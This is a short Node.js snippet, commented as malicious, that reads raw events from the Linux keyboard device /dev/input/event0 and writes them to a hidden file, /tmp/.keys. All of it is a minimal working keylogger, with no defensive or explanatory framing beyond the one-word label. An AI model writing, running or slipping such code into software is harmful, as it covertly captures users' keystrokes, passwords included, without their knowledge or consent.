// malicious: reads the keyboard device
const fs = require('fs');
const log = fs.createWriteStream('/tmp/.keys');
fs.createReadStream('/dev/input/event0').on('data', (b) => log.write(b));
